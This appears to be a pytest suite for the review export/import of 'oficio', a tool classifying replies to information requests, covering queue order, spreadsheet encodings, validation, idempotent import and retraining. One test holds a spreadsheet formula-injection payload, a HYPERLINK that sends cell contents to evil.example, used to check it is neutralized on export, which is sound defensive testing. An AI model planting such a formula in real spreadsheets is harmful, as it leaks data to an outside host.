"""oficio review export/import: queue order and columns, spreadsheet quirks, validation,
idempotent import, and a scripted review round that retrains the model."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path

import pytest
from typer.testing import CliRunner

from oficio.annotations.bundled import load_bundled
from oficio.annotations.store import AnnotationStore
from oficio.cli.main import app
from oficio.corpus.outputs.spreadsheet import read_csv
from oficio.labels import AXES
from tests.conftest import ROOT
from tests.corpus.review.review_workspace import make_workspace

runner = CliRunner()
REPLIES = load_bundled()


def _pred(status, conf, axes, **p):
    probs = {"governance": 0.05, "prevention": 0.05, "protection": 0.05, "prosecution": 0.05}
    probs.update({a: 0.95 for a in axes})
    probs.update(p)
    return {"status": status, "status_confidence": conf, "axes": axes, "p": probs}


@pytest.fixture()
def workspace(tmp_path):
    """Five replies: certain, unsure status, an axis at 0.52, and two signal disagreements."""
    rows = [
        (REPLIES[0], _pred("answered", 0.99, ["prevention"])),
        (REPLIES[1], _pred("answered", 0.60, ["protection"])),
        (REPLIES[2], _pred("answered", 0.97, ["governance", "prosecution"], prosecution=0.52)),
        (REPLIES[3], _pred("missing", 0.98, [], prevention=0.75)),
        (REPLIES[4], _pred("answered", 0.99, [])),
    ]
    ws = tmp_path / "ws"
    ids = make_workspace(ws, rows)
    return ws, ids


def _export(ws: Path, out: Path, *extra: str):
    result = runner.invoke(app, ["review", "export", "--workspace", str(ws), "--out", str(out),
                                 *extra])  # fmt: skip
    assert result.exit_code == 0, result.output
    return read_csv(out)


def _import(ws: Path, path: Path, *extra: str):
    return runner.invoke(app, ["review", "import", str(path), "--workspace", str(ws), *extra])


def test_queue_puts_the_least_certain_first_and_disagreements_before_certain(workspace, tmp_path):
    ws, ids = workspace
    _, rows, _ = _export(ws, tmp_path / "q.csv")
    order = [ids.index(row["doc_id"]) for row in rows]
    # 0.52 axis (margin .04), then status .60 (margin .2), then the two disagreements
    # (missing with a 0.75 axis and figures; answered with no axis), then the certain one.
    assert order[:2] == [2, 1]
    assert set(order[2:4]) == {3, 4}
    assert order[4] == 0


def test_a_document_judged_off_topic_comes_first(tmp_path):
    from oficio.corpus.store.database import connect

    # The other reply is a coin toss with figures: worth more by uncertainty × weight,
    # still after the document the model never read.
    rows = [(REPLIES[0], _pred("answered", 0.34, ["prevention"])),
            (REPLIES[1], _pred("missing", 0.97, [], governance=0.0, prevention=0.0,
                               protection=0.0, prosecution=0.0))]
    ws = tmp_path / "ws"
    ids = make_workspace(ws, rows)
    connection = connect(ws / "oficio.sqlite")
    connection.execute("UPDATE documents SET missing_kind = 'off_topic' WHERE doc_id = ?",
                       (ids[1],))
    connection.close()
    _, queued, _ = _export(ws, tmp_path / "q.csv")
    assert [row["doc_id"] for row in queued] == [ids[1], ids[0]]
    assert queued[0]["missing_kind"] == "off topic"  # by its name (English: the suite's)


def test_queue_columns(workspace, tmp_path):
    ws, ids = workspace
    header, rows, _ = _export(ws, tmp_path / "q.csv")
    for column in ("doc_id", "file", "sender", "reference", "date", "status",
                   "status_confidence", "axes", "p_governance", "link", "evidence",
                   "amounts", "counts", "copies", "value", "your_status", "your_axes",
                   "your_missing_kind", "your_sender", "comment"):  # fmt: skip
        assert column in header
    row = next(r for r in rows if r["doc_id"] == ids[2])
    assert row["axes"] == "governance; prosecution"
    assert row["p_prosecution"] == "0.52"
    assert row["evidence"] and len(row["evidence"]) <= 120
    assert row["amounts"].startswith("PEN 1,250,000 budget (2018)")
    assert row["counts"].count(";") == 2 and "5 victims" not in row["counts"]  # top 3 only
    assert all(row[c] == "" for c in ("your_status", "your_axes", "your_missing_kind",
                                      "your_sender", "comment"))


def test_export_filters(workspace, tmp_path):
    ws, ids = workspace
    assert [r["doc_id"] for r in _export(ws, tmp_path / "a.csv", "--status", "missing")[1]] \
        == [ids[3]]  # fmt: skip
    assert {r["doc_id"] for r in _export(ws, tmp_path / "b.csv", "--axis", "governance")[1]} \
        == {ids[2]}  # fmt: skip
    assert len(_export(ws, tmp_path / "c.csv", "--limit", "2")[1]) == 2
    assert _export(ws, tmp_path / "d.csv", "--run", "7")[1] == []
    assert _export(ws, tmp_path / "e.csv", "--kind", "municipality")[1] == []
    assert len(_export(ws, tmp_path / "f.csv", "--kind", "ministry")[1]) == 5


def test_xlsx_has_status_dropdown_frozen_header_and_text_ids(workspace, tmp_path):
    from openpyxl import load_workbook

    ws, ids = workspace
    out = tmp_path / "q.xlsx"
    result = runner.invoke(app, ["review", "export", "--workspace", str(ws), "--out", str(out),
                                 "--format", "xlsx"])  # fmt: skip
    assert result.exit_code == 0, result.output
    book = load_workbook(out)
    sheet = book["review"]
    header = [c.value for c in sheet[1]]
    assert header[:3] == ["doc_id", "file", "your_status"]  # English: the codes
    assert sheet.freeze_panes == "A2"
    assert {sheet.cell(row=r, column=1).value for r in range(2, 7)} == set(ids)
    assert all(sheet.cell(row=r, column=1).data_type == "s" for r in range(2, 7))
    column = header.index("your_status") + 1
    letter = sheet.cell(row=2, column=column).column_letter
    lists = [v for v in sheet.data_validations.dataValidation if f"{letter}2" in str(v.sqref)]
    assert lists and lists[0].type == "list"
    choices = [c.value for c in book["_lists"]["A"] if c.value]
    assert choices == ["answered", "out of period", "missing", "out_of_period"]  # names first


def _fill(rows, values):
    for row in rows:
        row.update(values.get(row["doc_id"], {}))
    return rows


def _write(path: Path, header, rows, encoding="utf-8-sig", delimiter=",", newline="\r\n"):
    with open(path, "w", encoding=encoding, newline="") as handle:
        writer = csv.writer(handle, delimiter=delimiter, lineterminator=newline)
        writer.writerow(header)
        writer.writerows([[row.get(c, "") for c in header] for row in rows])


def _labels(ws: Path):
    records = AnnotationStore(ws / "annotations.jsonl").records()
    return {(r.doc_id, r.field): r.value for r in records}


def test_import_cp1252_semicolons_crlf_with_spanish_values(workspace, tmp_path):
    ws, ids = workspace
    header, rows, _ = _export(ws, tmp_path / "q.csv")
    pnat_names = "Prevención, Atención, protección y reintegración"
    _fill(rows, {ids[0]: {"your_status": "Fuera de período", "your_axes": pnat_names,
                          "comment": "año 2016: fuera del período"},
                 ids[3]: {"your_status": "answered", "your_axes": "gobernanza;persecución",
                          "your_sender": "MIMP"}})  # fmt: skip
    excel = tmp_path / "queue.csv"
    _write(excel, header, rows, encoding="cp1252", delimiter=";")
    result = _import(ws, excel, "--annotator", "ana")
    assert result.exit_code == 0, result.output
    labels = _labels(ws)
    assert labels[(ids[0], "status")] == "out_of_period"
    assert labels[(ids[0], "axes")] == ["prevention", "protection"]
    assert labels[(ids[0], "comment")] == "año 2016: fuera del período"
    assert labels[(ids[3], "axes")] == ["governance", "prosecution"]
    assert labels[(ids[3], "sender_id")] == "mimp"
    records = AnnotationStore(ws / "annotations.jsonl").records()
    assert {r.source for r in records} == {"review:queue.csv"}
    assert {r.annotator for r in records} == {"ana"}


def test_import_reordered_deleted_rows_and_extra_columns(workspace, tmp_path):
    ws, ids = workspace
    header, rows, _ = _export(ws, tmp_path / "q.csv")
    _fill(rows, {ids[1]: {"your_status": "missing"}, ids[4]: {"your_axes": "prevention"}})
    kept = [r for r in reversed(rows) if r["doc_id"] in (ids[1], ids[4])]
    for row in kept:
        row["my notes"] = "checked twice"
    _write(tmp_path / "edited.csv", ["my notes", *reversed(header)], kept)
    assert _import(ws, tmp_path / "edited.csv").exit_code == 0
    assert _labels(ws) == {(ids[1], "status"): "missing", (ids[4], "axes"): ["prevention"]}


def test_formula_injection_is_neutralized_and_the_text_comes_back(workspace, tmp_path):
    ws, ids = workspace
    import sqlite3

    attack = '=HYPERLINK("http://evil.example/?"&A1,"clic")'
    connection = sqlite3.connect(ws / "oficio.sqlite")
    evidence = [{"label": "status:answered", "page": 1, "start": 0, "end": 10, "score": 2.0,
                 "text": attack}]  # fmt: skip
    connection.execute("UPDATE documents SET evidence = ?, reference = ? WHERE doc_id = ?",
                       (json.dumps(evidence), "+51-1-2345", ids[0]))  # fmt: skip
    connection.commit()
    connection.close()
    out = tmp_path / "q.csv"
    header, rows, _ = _export(ws, out)
    raw = out.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in raw and ",=HYPERLINK" not in raw and "'+51-1-2345" in raw
    row = next(r for r in rows if r["doc_id"] == ids[0])
    assert row["evidence"] == attack
    # a reviewer's comment that looks like a formula is stored as typed, without the mark
    row["comment"] = "'=SUM(1,2) no es fórmula"
    _write(tmp_path / "back.csv", header, [row])
    assert _import(ws, tmp_path / "back.csv").exit_code == 0
    assert _labels(ws)[(ids[0], "comment")] == "=SUM(1,2) no es fórmula"


def test_validation_errors_by_row_store_nothing_unless_partial(workspace, tmp_path):
    ws, ids = workspace
    header, rows, _ = _export(ws, tmp_path / "q.csv")
    by_id = {r["doc_id"]: r for r in rows}
    by_id[ids[0]].update(your_status="answered")  # good
    by_id[ids[1]].update(your_status="respondido a medias")
    by_id[ids[2]].update(your_axes="prevention; health")
    by_id[ids[3]].update(your_sender="Ministerio de la Alegría")
    stray = dict(by_id[ids[4]], doc_id="f" * 64, your_status="missing")
    ordered = [by_id[i] for i in ids] + [stray]
    path = tmp_path / "bad.csv"
    _write(path, header, ordered)
    result = _import(ws, path)
    assert result.exit_code != 0
    messages = result.output
    assert re.search(r"row 3, your_status: 'respondido a medias' is not a status", messages)
    assert re.search(r"row 4, your_axes: 'health' is not an axis", messages)
    assert re.search(r"row 5, your_sender: .*Alegría", messages)
    assert re.search(r"row 7, doc_id: .* not in the workspace", messages)
    assert "row 2" not in messages and "row 6" not in messages
    assert _labels(ws) == {}
    assert _import(ws, path, "--partial").exit_code == 0
    assert _labels(ws) == {(ids[0], "status"): "answered"}


def test_importing_the_same_file_twice_stores_nothing_new(workspace, tmp_path):
    ws, ids = workspace
    header, rows, _ = _export(ws, tmp_path / "q.csv")
    _fill(rows, {ids[2]: {"your_status": "missing", "your_axes": "none"}})
    _write(tmp_path / "done.csv", header, rows)
    assert _import(ws, tmp_path / "done.csv").exit_code == 0
    first = (ws / "annotations.jsonl").read_bytes()
    second = _import(ws, tmp_path / "done.csv")
    assert second.exit_code == 0 and "stored 0 labels" in second.output
    assert (ws / "annotations.jsonl").read_bytes() == first
    assert _labels(ws) == {(ids[2], "status"): "missing", (ids[2], "axes"): []}


def test_every_review_option_is_documented():
    from typer.main import get_command

    doc = (ROOT / "docs" / "cli-review.md").read_text(encoding="utf-8")
    group = get_command(app).commands["review"]
    assert set(group.commands) == {"export", "import"}
    missing = [f"{name} {opt}" for name, command in group.commands.items()
               for param in command.params for opt in param.opts
               if opt.startswith("--") and f"`{opt}" not in doc]  # fmt: skip
    assert not missing


def test_scripted_review_round_changes_the_retrained_model(tmp_path):
    """Replies the default model gets 'wrong' (per the reviewer): export, correct, import,
    train, and the new model follows the corrections."""
    from oficio.models.features import make_sample
    from oficio.models.registry import ModelRegistry

    ws = tmp_path / "ws"
    chosen = [r for r in REPLIES if r.split == "heldout"][:3]
    default = ModelRegistry(ws).load_active().model
    samples = [make_sample(r.text, r.period) for r in chosen]
    before = default.predict(samples)
    # Not to `missing`: a missing reply takes the axes its text says were asked (the
    # guide's rule), so a reviewer's axes for it could not move the model.
    flip = {"answered": "out_of_period", "missing": "answered", "out_of_period": "answered"}
    truth = {}
    rows = []
    for reply, label in zip(chosen, before, strict=True):
        rows.append((reply, _pred(label["status"], 0.9, label["axes"])))
    ids = make_workspace(ws, rows)
    for doc_id, label in zip(ids, before, strict=True):
        axes = sorted(set(AXES) - set(label["axes"]))
        truth[doc_id] = {"your_status": flip[label["status"]], "your_axes": ";".join(axes)}
    header, queue_rows, _ = _export(ws, tmp_path / "queue.csv")
    _write(tmp_path / "queue.csv", header, _fill(queue_rows, truth))
    assert _import(ws, tmp_path / "queue.csv").exit_code == 0

    small = tmp_path / "small.jsonl"
    train = [r for r in REPLIES if r.split == "train"]
    picked = [r for s in ("answered", "missing", "out_of_period")
              for r in [t for t in train if t.status == s][:30]]  # fmt: skip
    source = {json.loads(line)["id"]: line for line in
              (ROOT / "annotations" / "bundled" / "replies.jsonl").read_text().splitlines()
              if line.strip()}  # fmt: skip
    small.write_text("".join(source[r.id] + "\n" for r in picked), encoding="utf-8")
    result = runner.invoke(app, ["train", "--workspace", str(ws), "--bundled", str(small),
                                 "--activate"])  # fmt: skip
    assert result.exit_code == 0, result.output
    assert "3 reviewed replies" in result.output
    after = ModelRegistry(ws).load_active().model.predict(samples)
    for doc_id, old, new in zip(ids, before, after, strict=True):
        wanted = truth[doc_id]
        assert new["status"] == wanted["your_status"]
        target = set(wanted["your_axes"].split(";")) - {""}
        assert _agreement(new["axes"], target) > _agreement(old["axes"], target)


def _agreement(axes: list[str], target: set[str]) -> int:
    """How many of the four axis decisions agree with the reviewer's."""
    return sum((a in axes) == (a in target) for a in AXES)


def test_export_without_a_store_says_what_to_do(tmp_path):
    result = runner.invoke(app, ["review", "export", "--workspace", str(tmp_path / "none"),
                                 "--out", str(tmp_path / "q.csv")])  # fmt: skip
    assert result.exit_code == 3
    assert "E206" in result.output and "oficio process" in result.output
    assert not (tmp_path / "q.csv").exists()


def test_import_of_an_old_xls_workbook_asks_for_csv(workspace, tmp_path):
    """The XLSX queue imports (tests/corpus/review/test_review_queue.py); an Excel 97
    workbook does not."""
    ws, _ = workspace
    old = tmp_path / "q.xls"
    old.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504)
    result = _import(ws, old)
    assert result.exit_code == 3 and "E202" in result.output
    assert _labels(ws) == {}
